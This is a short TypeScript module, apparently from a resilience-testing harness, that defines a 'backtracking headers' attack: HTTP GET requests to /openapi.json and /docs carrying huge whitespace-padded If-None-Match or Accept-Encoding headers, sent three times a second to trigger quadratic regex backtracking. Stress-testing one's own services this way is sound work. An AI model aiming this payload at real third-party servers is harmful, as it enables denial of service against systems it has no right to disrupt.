import type { Attack } from './attack.ts';
import { callAtRate, head } from './raw-connection.ts';

/** As long as Node's bound on the head of a request lets a header be. */
const VALUE = `a${' '.repeat(15_500)}b`;
const REQUESTS = ['/openapi.json', '/docs'].flatMap((path) =>
  ['If-None-Match', 'Accept-Encoding'].map((header) =>
    head(`GET ${path}`, [`${header}: ${VALUE}`, 'Connection: close']),
  ),
);

/** Three times a second a header on which an expression that backtracks takes quadratic time. */
export const backtrackingHeaders: Attack = {
  name: 'backtracking headers',
  start: ({ port }) => callAtRate(port, 3, (index) => REQUESTS[index % REQUESTS.length] ?? ''),
};
